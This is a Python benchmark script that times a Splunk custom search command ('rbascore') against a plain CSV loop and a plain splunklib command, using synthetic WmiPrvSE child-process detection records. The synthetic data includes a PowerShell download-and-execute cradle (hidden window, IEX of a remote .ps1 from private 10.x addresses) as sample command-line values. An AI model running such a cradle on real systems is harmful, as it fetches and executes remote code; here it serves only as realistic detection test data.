"""Benchmark: rbascore end to end against a plain csv loop and a plain splunklib StreamingCommand.

    .venv/bin/python -m bench.rbascore_bench [--records 200000] [--chunk-size 50000] [--rounds 3]
    (from the repository root, or `make bench`)

Each command runs as splunkd runs it: a subprocess with no argv, a getinfo chunk, then execute chunks of
``--chunk-size`` records sent in lockstep (one request, one reply), and a header-only final chunk. The input is
the detection's 11 output fields plus splunkd's ``__mv_`` twins, encoded before timing starts, so the
driver's cost is the same for every command. Commands, all with the same arguments and the same work (score
= 70 x 70 / 100 and the message template filled from three fields):

  (a) csv-loop   the baseline: standard-library protocol framing + csv.reader/csv.writer over each body
                 (decode, StringIO, append the two cells, encode), no splunklib; the message is built by
                 concatenating the template's literal pieces with the cells at precomputed indices (it does
                 not decode __mv_ cells: the template fields are single-valued in this data).
  (b) splunklib  a plain splunklib StreamingCommand whose stream() sets the two fields on each record dict.
  (c) rbascore   bin/rbascore.py: splunklib for getinfo/options/errors, the CSV fast path for execute chunks.

Reported per command: wall-clock seconds from start to exit (median of --rounds runs, interleaved),
records/s, peak RSS (the child's VmHWM after its last reply, maximum over rounds) and ratios against (a).
The first round also checks that all three produce the same records.
"""
from __future__ import annotations

import argparse
import os
import random
import statistics
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

from localsearch.chunked import ChunkedProcess, decode_body, encode_rows, getinfo_metadata
from tests.project import RBASCORE_ARGS, SHIPPED_MESSAGE
from tests.project import REPO as ROOT

FIELDS = ["count", "firstTime", "lastTime", "dest", "user", "parent_process", "parent_process_name",
          "process_name", "process", "process_id", "parent_process_id"]
MESSAGE = SHIPPED_MESSAGE
ARGS = list(RBASCORE_ARGS)      # the shipped search's options

CSV_LOOP = r'''
import csv, io, json, re, sys
sys.path.insert(0, {bin!r})
from rbascore_core import parse_template
template = parse_template({message!r})
score = "49"
HEADER = re.compile(rb"chunked\s+1\.0\s*,\s*(\d+)\s*,\s*(\d+)\s*\n")
stdin, stdout = sys.stdin.buffer, sys.stdout.buffer

def reply(meta, body=b""):
    meta = json.dumps(meta).encode()
    stdout.write(b"chunked 1.0,%d,%d\n" % (len(meta), len(body)) + meta + body)
    stdout.flush()

while True:
    line = stdin.readline()
    if not line:
        break
    m = HEADER.fullmatch(line)
    meta = json.loads(stdin.read(int(m.group(1))))
    body = stdin.read(int(m.group(2)))
    if meta["action"] == "getinfo":
        reply({{"type": "streaming"}})
        continue
    out = io.StringIO()
    if body:
        reader = csv.reader(io.StringIO(body.decode("utf-8")))
        writer = csv.writer(out)
        header = next(reader)
        position = {{name: i for i, name in enumerate(header)}}
        slots = [(position.get(name), literal) for name, literal in zip(template.fields, template.literals[1:])]
        lead = template.literals[0]
        writer.writerow(header + ["risk_score", "risk_message", "__mv_risk_score", "__mv_risk_message"])

        def scored(row):
            parts = [lead]
            for index, literal in slots:
                parts.append("" if index is None else row[index].replace("$", "\U0001f4b2"))
                parts.append(literal)
            row += (score, "".join(parts), "", "")
            return row

        writer.writerows(map(scored, reader))
    reply({{"finished": meta.get("finished", False)}}, out.getvalue().encode("utf-8"))
'''

PLAIN_SPLUNKLIB = r'''
import sys
sys.path.insert(0, {lib!r})
sys.path.insert(0, {bin!r})
from splunklib.searchcommands import Configuration, Option, StreamingCommand, dispatch, validators
from rbascore_core import format_score, parse_percent, parse_template, risk_score

@Configuration()
class PlainScore(StreamingCommand):
    impact = Option(require=True)
    confidence = Option(require=True)
    message = Option(require=True)

    def stream(self, records):
        score = format_score(risk_score(parse_percent("impact", self.impact),
                                        parse_percent("confidence", self.confidence)))
        template = parse_template(self.message)
        for record in records:
            record["risk_score"] = score
            record["risk_message"] = template.render_mapping(record)
            yield record

dispatch(PlainScore, sys.argv, sys.stdin, sys.stdout, __name__)
'''


def make_rows(count: int, seed: int = 47) -> list[list[object]]:
    """Detection-shaped results: WmiPrvSE.exe children on many hosts; every 50th user is multivalue."""
    rnd = random.Random(seed)
    children = ["powershell.exe", "cmd.exe", "wmic.exe", "rundll32.exe", "mshta.exe", "regsvr32.exe"]
    rows: list[list[object]] = []
    for i in range(count):
        child = children[rnd.randrange(len(children))]
        user: object = f"CORP\\user{i % 977}"
        if i % 50 == 0:
            user = [f"CORP\\user{i % 977}", "NT AUTHORITY\\NETWORK SERVICE"]
        command = (f'{child} -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('
                   f"'http://10.{i % 250}.{i % 199}.{i % 97}/stage{i}.ps1')\"")
        rows.append([str(rnd.randint(1, 20)), f"2024-03-0{1 + i % 9}T1{i % 10}:{i % 60:02d}:00",
                     f"2024-03-0{1 + i % 9}T1{i % 10}:{(i + 7) % 60:02d}:00",
                     f"WKS-{i % 5000:05d}.corp.example.com", user,
                     "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "WmiPrvSE.exe", child,
                     command, str(2000 + i % 60000), str(1000 + i % 4000)])
    return rows


def run_once(argv: list[str], bodies: list[bytes], final: bytes, keep_output: bool) -> dict:
    """One end-to-end run in lockstep; returns seconds, peak RSS (bytes) and the reply bodies if asked."""
    with tempfile.TemporaryDirectory(prefix="rbascore_bench_") as dispatch_dir:
        info = getinfo_metadata(ARGS, app="DA-ESS-WmiProcessExecution", dispatch_dir=dispatch_dir,
                                search="| rbascore ...", command="rbascore")
        start = time.perf_counter()
        proc = ChunkedProcess(argv)
        replies: list[bytes] = []
        reply = proc.request(info)
        if reply is None or "ERROR" in str(reply[0]):
            raise SystemExit(f"{argv[-1]}: getinfo failed: {reply}\n{proc.stderr}")
        for index, body in enumerate(bodies + [final]):
            reply = proc.request({"action": "execute", "finished": index == len(bodies)}, body)
            if reply is None:
                raise SystemExit(f"{argv[-1]}: no reply to chunk {index}\n{proc.stderr}")
            if keep_output:
                replies.append(reply[1])
        peak = vm_hwm(proc.proc.pid)  # the command has answered everything and waits for end of input
        code = proc.close()
        elapsed = time.perf_counter() - start
        if code != 0:
            raise SystemExit(f"{argv[-1]} exited {code}\n{proc.stderr}")
    return {"seconds": elapsed, "rss": peak, "replies": replies}


def vm_hwm(pid: int) -> int:
    """Peak resident set size of a running process in bytes (Linux /proc VmHWM). Not ru_maxrss: Linux carries
    the forked parent's high-water mark across exec into the child's ru_maxrss."""
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) * 1024
    raise SystemExit("no VmHWM in /proc: peak RSS needs Linux")


def decoded_records(replies: list[bytes]) -> list[dict]:
    records: list[dict] = []
    for body in replies:
        fields, rows = decode_body(body)
        records.extend(dict(zip(fields, row)) for row in rows)
    return records


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--records", type=int, default=200_000)
    parser.add_argument("--chunk-size", type=int, default=50_000)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--python", default=sys.executable, help="Python that runs the commands")
    options = parser.parse_args()

    rows = make_rows(options.records)
    bodies = [encode_rows(FIELDS, rows[i:i + options.chunk_size])
              for i in range(0, len(rows), options.chunk_size)]
    final = encode_rows(FIELDS, [])
    del rows
    size = sum(map(len, bodies))

    with tempfile.TemporaryDirectory(prefix="rbascore_bench_cmds_") as folder:
        scripts = {
            "(a) csv-loop": CSV_LOOP.format(bin=str(ROOT / "bin"), message=MESSAGE),
            "(b) splunklib": PLAIN_SPLUNKLIB.format(bin=str(ROOT / "bin"), lib=str(ROOT / "lib")),
        }
        commands: dict[str, list[str]] = {}
        for name, source in scripts.items():
            path = Path(folder) / (name.split()[1].replace("-", "_") + ".py")
            path.write_text(textwrap.dedent(source))
            commands[name] = [options.python, str(path)]
        commands["(c) rbascore"] = [options.python, str(ROOT / "bin" / "rbascore.py")]

        seconds: dict[str, list[float]] = {name: [] for name in commands}
        rss: dict[str, int] = {name: 0 for name in commands}
        for round_number in range(options.rounds):
            outputs = {}
            for name, argv in commands.items():
                result = run_once(argv, bodies, final, keep_output=round_number == 0)
                seconds[name].append(result["seconds"])
                rss[name] = max(rss[name], result["rss"])
                if round_number == 0:
                    outputs[name] = decoded_records(result["replies"])
            if round_number == 0:
                expected = outputs["(a) csv-loop"]
                for name, records in outputs.items():
                    if len(records) != options.records or records != expected:
                        raise SystemExit(f"{name}: output differs from the csv loop's ({len(records)} records)")

    version = subprocess.run([options.python, "-c", "import platform; print(platform.python_version())"],
                             capture_output=True, text=True, check=True).stdout.strip()
    base_rate = options.records / statistics.median(seconds["(a) csv-loop"])
    base_rss = rss["(a) csv-loop"]
    print(f"rbascore benchmark: {options.records:,} records x {len(FIELDS)} fields (+ __mv_ twins), "
          f"{len(bodies)} chunks of {options.chunk_size:,} ({size / 1e6:.1f} MB), lockstep, "
          f"median of {options.rounds} rounds, {os.cpu_count()} CPUs, commands on Python {version}")
    print(f"{'command':<15}{'seconds':>9}{'records/s':>12}{'x csv-loop':>12}{'peak RSS MB':>13}{'x csv-loop':>12}")
    for name in commands:
        median = statistics.median(seconds[name])
        rate = options.records / median
        print(f"{name:<15}{median:>9.2f}{rate:>12,.0f}{rate / base_rate:>12.2f}"
              f"{rss[name] / 2**20:>13.1f}{rss[name] / base_rss:>12.2f}")
    print("all three commands produced the same records")
    return 0


if __name__ == "__main__":
    sys.exit(main())
